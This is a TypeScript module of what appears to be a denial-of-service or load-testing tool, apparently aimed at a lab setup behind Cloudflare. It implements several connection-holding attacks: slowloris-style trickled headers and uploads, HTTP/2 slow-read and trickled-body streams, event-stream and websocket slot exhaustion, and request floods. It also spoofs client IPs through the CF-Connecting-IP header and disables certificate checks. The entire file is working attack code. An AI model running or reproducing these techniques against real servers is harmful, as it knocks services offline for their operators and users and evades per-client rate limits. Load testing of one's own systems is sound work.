import { connect as connectHttp2, type ClientHttp2Session, type ClientHttp2Stream, type OutgoingHttpHeaders } from 'node:http2';
import { connect as connectTcp, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Order, Way } from './attack';

export interface Ledger {
  connections: number;
  underWay: number;
  end(how: string): void;
}

export interface Connection extends Order {
  readonly localAddress: string;
  readonly ledger: Ledger;
  /** The connection is open, or never will be. */
  readonly opened: () => void;
}

/** Holds one connection; resolves when either side has closed it. */
export type Hold = (connection: Connection) => Promise<void>;

const EACH_SECOND = 1_000;
/** Pause after an answer. With a shorter one the attacker's own processor would be the bottleneck. */
const AGAIN_AFTER = 5_000;
const AGAIN_SOON = 1_000;
/** More than a load balancer buffers before it asks a web server. */
const MORE_THAN_A_BUFFER = Buffer.alloc(20_000, 'x');
/** No web server accepts fewer bytes (`web.maxBodyMegabytes`): a larger body is refused by its head, and holds nothing. */
const BODY_BYTES = 1_000_000;
const LARGE_ANSWER = 50_000_000;

export const WAYS: Readonly<Record<Way, Hold>> = {
  // Every second stream sends at once what fills the load balancer's buffer, the others send a byte a second from the beginning
  'trickling-bodies': byHttp2({
    begin: (ask, number) => {
      const stream = ask({ ':method': 'POST', ':path': '/api/notes', 'content-type': 'application/json', 'content-length': BODY_BYTES });
      stream.write(number % 2 === 0 ? MORE_THAN_A_BUFFER : 'x');
      return stream;
    },
    eachSecond: (stream) => stream.write('x'),
  }),
  'slow-readers': byHttp2({
    begin: (ask, _, { answerBytes = LARGE_ANSWER }) => ask({ ':path': `/api/download?bytes=${answerBytes}` }),
    // Never more than what the window of the stream has room for
    eachSecond: (stream) => stream.read(100) as unknown,
  }),
  'event-streams': byHttp2({ begin: (ask) => ask({ ':path': '/api/events', accept: 'text/event-stream' }).resume() }),
  // A stream that does not announce itself takes a place of an ordinary request
  'undeclared-streams': byHttp2({ begin: (ask) => ask({ ':path': '/api/events' }).resume() }),
  // Many small requests, each answered at once
  requests: byHttp2({ begin: (ask) => ask({ ':path': '/api/whoami' }).resume(), againAfter: AGAIN_SOON }),
  // By HTTP/1.1, the only version that the lab's Cloudflare speaks. Each fills the load balancer's buffer and so gets a place, and no full
  // buffer keeps others on the same connection back
  'trickling-uploads': bySocket({
    tls: true,
    first: 'POST /api/notes',
    headers: { 'Content-Type': 'application/json', 'Content-Length': BODY_BYTES },
    then: `\r\n${MORE_THAN_A_BUFFER.toString()}`,
    eachSecond: 'x',
  }),
  'slow-heads': bySocket({ tls: true, first: 'GET /', then: 'X-Long: ', eachSecond: 'x' }),
  redirects: bySocket({ tls: false, first: 'GET /', then: 'X-Long: ', eachSecond: 'x' }),
  'web-sockets': bySocket({
    tls: true,
    first: 'GET /api/socket',
    headers: {
      Connection: 'Upgrade',
      Upgrade: 'websocket',
      'Sec-WebSocket-Version': 13,
      'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==',
    },
    then: '\r\n',
  }),
};

interface Http2Way {
  readonly begin: (ask: (headers: OutgoingHttpHeaders) => ClientHttp2Stream, number: number, order: Order) => ClientHttp2Stream;
  readonly eachSecond?: (stream: ClientHttp2Stream) => void;
  /** Milliseconds. @default 5000 */
  readonly againAfter?: number;
}

function byHttp2({ begin, eachSecond, againAfter = AGAIN_AFTER }: Http2Way): Hold {
  return async (connection) => {
    const { target, localAddress, requestsPerConnection, ledger, opened } = connection;
    const { address, port = 443, host } = target;
    const tcp = connectTcp({ host: address, port, localAddress });
    const session = connectHttp2(`https://${host}`, {
      createConnection: () => connectTls({ socket: tcp, servername: host, ALPNProtocols: ['h2'], rejectUnauthorized: false }),
    });
    let wasOpen = false;
    const closed = new Promise<void>((resolve) => session.once('close', resolve));
    session.on('error', ({ message }: Error) => ledger.end(message));
    // Waits until the load balancer has said how many streams it takes: more would be refused
    session.once('remoteSettings', () => {
      wasOpen = true;
      ledger.connections += 1;
      opened();
      const streams = Math.min(requestsPerConnection, session.remoteSettings.maxConcurrentStreams ?? Infinity);
      for (let number = 0; number < streams; number += 1) void holdStreams(session, number);
    });
    await closed;
    opened();
    if (wasOpen) ledger.connections -= 1;
    else ledger.end('not opened');

    async function holdStreams(own: ClientHttp2Session, number: number): Promise<void> {
      const ask = (headers: OutgoingHttpHeaders) => own.request({ ...headers, ...visitorHeader(connection) });
      while (!own.destroyed && !own.closed) {
        await holdStream(begin(ask, number, connection));
        await sleep(againAfter);
      }
    }

    async function holdStream(stream: ClientHttp2Stream): Promise<void> {
      ledger.underWay += 1;
      let status: number | undefined;
      stream.on('response', (headers) => {
        status = headers[':status'];
        if (status !== undefined && status >= 400) stream.close();
      });
      stream.on('error', () => undefined);
      const timer = eachSecond && setInterval(() => stream.destroyed || eachSecond(stream), EACH_SECOND);
      await new Promise<void>((resolve) => stream.once('close', resolve));
      clearInterval(timer);
      ledger.underWay -= 1;
      ledger.end(status === undefined ? 'no answer' : String(status));
    }
  };
}

/** Requests of this process so far. */
let asked = 0;

function visitorHeader({ visitors }: Order): Readonly<Record<string, string>> {
  const visitor = visitors?.[asked++ % visitors.length];
  return visitor === undefined ? {} : { 'CF-Connecting-IP': visitor };
}

interface SocketWay {
  readonly tls: boolean;
  /** Method and path. */
  readonly first: string;
  readonly headers?: Readonly<Record<string, string | number>>;
  /** Follows the headers at once. */
  readonly then: string;
  /** @default silence */
  readonly eachSecond?: string;
}

function bySocket({ tls, first, headers, then, eachSecond }: SocketWay): Hold {
  return async (connection) => {
    const { target, localAddress, ledger, opened } = connection;
    const { address, port = tls ? 443 : 80, host } = target;
    const tcp = connectTcp({ host: address, port, localAddress });
    const socket: Socket = tls ? connectTls({ socket: tcp, servername: host, rejectUnauthorized: false }) : tcp;
    let [wasOpen, answer] = [false, 'no answer'];
    socket.once(tls ? 'secureConnect' : 'connect', () => {
      wasOpen = true;
      ledger.connections += 1;
      ledger.underWay += 1;
      opened();
      const lines = Object.entries({ Host: host, ...headers, ...visitorHeader(connection) }).map(
        ([name, value]) => `${name}: ${value}\r\n`,
      );
      socket.write(`${first} HTTP/1.1\r\n${lines.join('')}${then}`);
    });
    socket.on('data', (chunk: Buffer) => {
      if (answer === 'no answer') answer = /^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'))?.[1] ?? answer;
      if (Number(answer) >= 400) socket.destroy();
    });
    socket.on('error', () => undefined);
    const timer = eachSecond === undefined ? undefined : setInterval(() => wasOpen && socket.write(eachSecond), EACH_SECOND);
    await new Promise<void>((resolve) => socket.once('close', () => resolve()));
    clearInterval(timer);
    opened();
    if (wasOpen) {
      ledger.connections -= 1;
      ledger.underWay -= 1;
      ledger.end(answer);
    } else ledger.end('not opened');
  };
}
